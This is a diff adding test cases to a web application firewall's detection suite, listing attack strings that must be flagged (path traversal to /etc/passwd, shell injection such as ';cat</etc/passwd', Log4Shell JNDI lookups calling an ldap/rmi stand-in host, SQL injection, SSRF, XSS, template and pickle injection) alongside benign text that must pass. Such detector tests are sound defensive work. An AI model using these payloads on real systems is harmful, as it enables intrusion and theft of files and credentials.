@@ -194,6 +194,32 @@ describe("waf.detect", function()
     assert.same({}, none)
   end)
 
+  it("catches common variants of each class (fullwidth dots, ..;/, lookups, quoting, ${IFS})", function()
+    for _, v in ipairs({
+      "%uff0e%uff0e/%uff0e%uff0e/etc/passwd", "/..;/..;/manager/html", "..%c1%9c..%c1%9cboot.ini",
+      ";cat</etc/passwd", ";sleep${IFS}5", "a;{ls,-la}", "||id", ";ls -la",
+      "${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", "${j${k8s:k5:-ND}i:ldap://x.test}",
+      "#{7*7}", "{{7*'7'}}", "cos\nsystem\n(S'id'\ntR.", "a%E5%98%8A%E5%98%8DSet-Cookie:x=1",
+      "1 order by 3", "'or'1'='1", "1' waitfor delay '0:0:5'--", "http://127.000.000.001/",
+      "http:/\\127.0.0.1/", "<a href=javascript&colon;alert(1)>x", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+    }) do
+      assert.is_true(#ids(v) > 0, v)
+    end
+  end)
+
+  it("passes prose and code that look like attacks", function()
+    for _, v in ipairs({
+      "I'll be there at 5; don't wait up", "Use ls to list files and cd to change directory",
+      "union of two sets in math", "rm -rf is dangerous, never run it as root",
+      "price: $10 (excl. VAT); shipping: $2", "C++ & C# (dotnet) devs wanted", "Read /usr/share/doc for docs",
+      "x = a || b && c", "function foo() { return 1; }", "let me know; I'll ping you tomorrow",
+      "My path is C:\\Program Files\\App", "password must contain !@#$%^&*()", "1 or 2", "f(x)(y)",
+      "Ünïcödé — “quotes” and ‘single’", "日本語のテキスト", "Use the onclick attribute sparingly",
+    }) do
+      assert.same({}, ids(v), v)
+    end
+  end)
+
   it("inspects base64 values as the text they decode to", function()
     -- base64 of "<script>alert(5)</script>"
     assert.is_true(hits_class("xss", "PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=="))
